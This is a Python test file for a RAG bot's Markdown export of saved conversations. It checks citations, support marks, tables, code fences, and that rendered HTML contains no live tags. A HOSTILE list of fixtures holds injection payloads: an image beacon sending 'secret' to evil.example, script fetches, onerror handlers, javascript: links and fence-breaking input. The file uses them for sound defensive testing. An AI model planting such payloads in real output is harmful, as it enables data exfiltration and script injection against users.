"""An exported conversation shows every word, marks what is not supported, and has nothing live in it."""

from __future__ import annotations

import re
from dataclasses import replace
from html import unescape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag_bot.conversations import Conversation, SavedExchange
from rag_bot.conversations.markdown import conversation_markdown, escaped, fenced
from rag_bot.records import (
    ANSWERED,
    CLOSEST,
    NO_CLAIM,
    REWORDED,
    UNSUPPORTED,
    Citation,
    Difference,
    Filters,
    Place,
    Sentence,
    marks_words,
)
from tests.conversations.samples import ASKED, EVERYWHERE, exchange, quote, quoted, written

HOSTILE = (
    "![beacon](http://evil.example/?q=secret)",
    "<img src=http://evil.example/x.png onerror=alert(1)>",
    "<script>fetch('http://evil.example')</script>",
    "[click](javascript:alert(1)) http://evil.example www.evil.example <http://evil.example> a@evil.example",
    "[1]: http://evil.example\n[1]\n![1]",
    "```\n# Out of the fence\n```\n![x](http://evil.example)",
    "````````\n> </blockquote><img src=x>\n\n\n## Another question\n~~~",
    "- a\r\n- b\r# c\n===\n---\n| a | b |\n|---|---|\n| ![i](u) | c |",
    "    indented ![i](http://evil.example)\n\t<iframe src=u></iframe>",
    "<!-- a comment that\n\nnever ends ![i](u)",
    "&lt;img src=x&gt; &#60;script&#62; \\![i](u) \\<b>",
)
KINDS = [MarkdownIt("commonmark", {"html": True}), MarkdownIt("js-default", {"html": True, "linkify": False})]
OURS = {"h1", "h2", "p", "blockquote", "pre", "code", "ul", "ol", "li", "br"}
TABLES = {"table", "thead", "tbody", "tr", "th", "td"}


def _page(*exchanges: SavedExchange, title: str = "Rent") -> str:
    return conversation_markdown(Conversation("k", title, ASKED, ASKED, len(exchanges)), exchanges)


def _html(page: str, kind: MarkdownIt = KINDS[0]) -> str:
    return str(kind.render(page))


def _tags(html: str) -> set[str]:
    return set(re.findall(r"<\s*/?\s*([A-Za-z!][\w-]*)", html))


def _shown(html: str) -> str:
    return " ".join(unescape(re.sub(r"<[^>]*>", "", html)).split())


def test_the_page_has_question_quote_place_and_circumstances() -> None:
    page = _page(exchange("k", "When is the rent due?", "- On the third.", filters=Filters(folder="notes/flat")))
    assert (
        page
        == """# Rent

Begun 2026-11-03 14:05, last changed 2026-11-03 14:05, 1 question.

## When is the rent due?

Asked 2026-11-03 14:05 in notes/flat. Mode: quotes, lines of the notes.

[1] notes/a.md:12-15 — Rent › Flat

> ```
> - On the third.
> ```
"""
    )


def test_prose_has_its_marks_warnings_model_notice_and_what_was_searched_for() -> None:
    sentences = (
        Sentence("Your notes say:", (), NO_CLAIM),
        Sentence("It is due on the third.", (1, 2), before="\n- "),
        Sentence("It is 900 crowns.", (2,), UNSUPPORTED, ("no line says 900",), "\n- "),
        Sentence("Perhaps.", (), REWORDED, (), "\n\n"),
    )
    answer = written("And when?", *sentences, lines=("On the third.", "Monthly."))
    answer = replace(answer, searched_for="When is the rent due?", notice="It broke off.", draft="And so")
    page = _page(SavedExchange("k", "And when?", EVERYWHERE, answer, ASKED))
    assert "Mode: prose, written by ollama:qwen3, each sentence checked against the notes." in page
    assert "\n\nSearched for: When is the rent due?\n\nNotice: It broke off.\n\nYour notes say:\n" in page
    assert (
        "\n- It is due on the third. [1] [2]\n- ⚠ not in these lines, no line says 900: It is 900 crowns. [2]" in page
    )
    assert (
        f"\n\nPerhaps. (in the model's words)\n\n⚠ not checked: And so\n\n{marks_words(answer)}\n\n[1] notes/a.md:12"
        in page
    )


def test_a_support_that_this_version_does_not_know_is_not_shown_as_supported() -> None:
    page = _page(SavedExchange("k", "q", EVERYWHERE, written("q", Sentence("It is so.", (), "contested")), ASKED))
    assert "⚠ not checked: It is so." in page


def test_quotes_after_a_model_failed_name_it_and_an_abstaining_answer_the_nearest_passages() -> None:
    answer = replace(quoted("q", "A line."), model="openai:gpt", notice="openai:gpt did not answer.")
    assert "Mode: quotes, lines of the notes, after openai:gpt was asked." in _page(
        SavedExchange("k", "q", EVERYWHERE, answer)
    )
    near = (Place("notes/b.md", "Flat", ("Keys",), 3, 4, 0.2),)
    page = _page(SavedExchange("k", "q", EVERYWHERE, quoted("q"), ASKED, near))
    assert "\n\nAsked 2026-11-03 14:05. The notes don't answer it.\n\nThis is not in your notes.\n" in page
    assert "Mode:" not in page
    assert "\nThe nearest passages, which may not answer it:\n\n- notes/b.md:3-4 — Flat › Keys" in page


def test_what_the_lines_are_worth_and_how_they_differ_stands_above_them() -> None:
    lines = quoted("How much?", "It is 7.50.", "It is 6.90.")
    differs = (Difference((1, 2), ("7.50", "6.90"), ("2026-01-02", "")),)
    page = _page(SavedExchange("k", "q", EVERYWHERE, replace(lines, verdict=CLOSEST, differences=differs), ASKED))
    said = (
        "Your notes come near this; these lines may not answer it.",
        "Your notes differ: 7.50 [1] (2026-01-02), 6.90",
    )
    places = [_shown(_html(page)).index(words) for words in (*said, "It is 7.50.")]
    assert places == sorted(places)
    assert "differ" not in _page(SavedExchange("k", "q", EVERYWHERE, lines, ASKED))


def test_a_row_of_a_table_has_the_heads_of_its_columns_with_its_place() -> None:
    row = replace(quote("| Berta | 9.8 |"), context=("Hive | Honey",))
    answer = replace(quoted("q"), verdict=ANSWERED, citations=(Citation(1, row),))
    assert r"[1] notes/a.md:12-15 — Rent › Flat › Hive \| Honey" in _page(
        SavedExchange("k", "q", EVERYWHERE, answer, ASKED)
    )


def test_a_citation_whose_note_has_changed_says_so() -> None:
    answer = replace(quoted("q"), citations=(Citation(1, quote("A line."), "deleted"),))
    assert "Flat (the note is no longer there)" in _page(SavedExchange("k", "q", EVERYWHERE, answer, ASKED))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("kind", KINDS)
def test_nothing_in_the_page_is_live_whatever_was_asked_noted_or_written(text: str, kind: MarkdownIt) -> None:
    sentences = (Sentence(text, (1,), before=text), Sentence(text, (1,), UNSUPPORTED, (text,), "\n- "))
    answer = replace(written(text, *sentences), notice=text, draft=text, model=text, searched_for=f"{text} more")
    cited = quote(text, path=f"notes/{text}.md", title=text, headings=(text,))
    answer = replace(answer, citations=(Citation(1, cited),))
    near = (Place(text, text, (text,), 1, 1),)
    hostile = SavedExchange("a", text, Filters(text, text), answer, ASKED, near)
    calm = SavedExchange("b", "q", EVERYWHERE, quoted("q", text), text)
    page = _page(hostile, calm, title=text)
    html = _html(page, kind)
    assert _tags(html) <= OURS
    assert html.count("<h1>") == 1
    assert html.count("<h2>") == 2
    assert html.count("<blockquote>") == 2
    first = " ".join(text.split())
    assert _shown(html).count(first) >= 10


@given(st.text(alphabet="`~> \t\n\r#-<a1[]!()\\&;", max_size=60))
@settings(max_examples=200, deadline=None)
def test_a_fence_holds_the_text_word_for_word(text: str) -> None:
    html = _html(f"before\n\n{fenced(text)}\n\nafter")
    found = re.fullmatch(
        r"<p>before</p>\n<blockquote>\n<pre><code>(.*)</code></pre>\n</blockquote>\n<p>after</p>\n", html, re.DOTALL
    )
    assert found
    assert unescape(found[1]).removesuffix("\n") == re.sub(r"\r\n?", "\n", text)


@given(st.text(alphabet="`~>*_ \n#-+=.:<a1[]!()\\&;|$@/w", max_size=60))
@settings(max_examples=300, deadline=None)
def test_escaped_text_shows_its_words_and_makes_nothing_of_them(text: str) -> None:
    for kind in KINDS:
        html = _html(f"x: {escaped(text)}\n\nafter", kind)
        assert _tags(html) <= {"p", "br"}
        assert _shown(html) == " ".join(f"x: {text} after".split())


@given(st.text(alphabet="`~>*_ #-+=.:<a1[]!()\\&;|$@/w", max_size=60))
@settings(max_examples=200, deadline=None)
def test_a_heading_shows_the_whole_question(text: str) -> None:
    html = _html(_page(exchange("k", text)))
    found = re.search(r"<h2>(.*)</h2>", html)
    assert found
    assert unescape(found[1]) == " ".join(text.split())


def _prose_page(*sentences: Sentence) -> str:
    return _page(SavedExchange("k", "q", EVERYWHERE, written("q", *sentences, lines=("On the third.",)), ASKED))


def test_code_stands_in_a_fence_to_be_copied_with_its_marks_below_and_prose_goes_on_after_it() -> None:
    page = _prose_page(
        Sentence("So:", (), NO_CLAIM),
        Sentence("def rent(*days):", (1,), before="\n\n    "),
        Sentence("return  '![x](u) ``` <b>'", (), UNSUPPORTED, ("no line says *this*",), "\n        "),
        Sentence("# nor that", (), UNSUPPORTED, ("no line says *this*",), "\n    "),
        Sentence("It is due on the third.", (1,), before="\n\n"),
    )
    assert (
        r"""So:

````
def rent(*days):
    return  '![x](u) ``` <b>'
# nor that
````

- Line 1: [1]
- Lines 2 to 3: ⚠ not in these lines, no line says \*this\*

It is due on the third. [1]
"""
        in page
    )
    assert _tags(_html(page)) <= OURS


@pytest.mark.parametrize(
    ("line", "below"),
    [
        (Sentence("ls", (), NO_CLAIM, before="\n    "), "[1] notes/a.md"),
        (
            Sentence("ls", (1,), REWORDED, before="\n    "),
            "The code above: [1] (in the model's words)\n\nA number alone",
        ),
    ],
)
def test_code_that_is_all_alike_has_its_marks_once(line: Sentence, below: str) -> None:
    assert f"\n\n```\nls\nls\n```\n\n{below}" in _prose_page(line, line)


def test_what_follows_code_on_its_own_line_is_no_code() -> None:
    page = _prose_page(Sentence("ls", (), NO_CLAIM, before="\n    "), Sentence("So.", (1,), before=" "))
    assert "\n\n```\nls\n```\n\nSo. [1]\n" in page


ROWS = (
    Sentence("| Firm | Price |", (), NO_CLAIM, before="\n\n"),
    Sentence("| Oak \\| 900.", (1,), before="\n"),
    Sentence("More |", (), UNSUPPORTED, ("no | line",), " "),
    Sentence("| ![i](u) | a | <b> |", (1,), REWORDED, before="\n"),
    Sentence("| - Elm |", (1,), before="\n"),
)


def test_a_table_is_one_and_each_sentence_in_its_cells_keeps_its_marks() -> None:
    page = _prose_page(Sentence("See:", (), NO_CLAIM), *ROWS, Sentence("So.", (1,), before="\n"))
    assert (
        r"""
See:

| Firm | Price |
| --- | --- |
| Oak \\ | 900\. [1] More ⚠ not in these lines, no \| line |
| !\[i\](u) | a \| \<b\> [1] (in the model's words) |
| \- Elm [1] |  |

So. [1]
"""
        in page
    )
    assert _tags(_html(page)) <= OURS
    html = _html(page, KINDS[1])
    assert _tags(html) <= OURS | TABLES
    cells = [_shown(cell) for cell in re.findall("<t[hd]>(.*?)</t[hd]>", html)]
    assert cells == [
        *("Firm", "Price", "Oak \\", "900. [1] More ⚠ not in these lines, no | line"),
        *("![i](u)", "a | <b> [1] (in the model's words)", "- Elm [1]", ""),
    ]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("kind", KINDS)
def test_nothing_in_a_table_or_in_code_is_live(text: str, kind: MarkdownIt) -> None:
    page = _prose_page(
        Sentence(f"| {text} | b |", (1,), UNSUPPORTED, (text,), "\n"),
        Sentence(f"| {text} | b |", (1,), UNSUPPORTED, (text,), "\n"),
        Sentence(text, (1,), UNSUPPORTED, (text,), "\n    "),
    )
    html = _html(page, kind)
    assert _tags(html) <= OURS | TABLES
    assert (html.count("<h1>"), html.count("<h2>"), html.count("<pre>")) == (1, 1, 2)
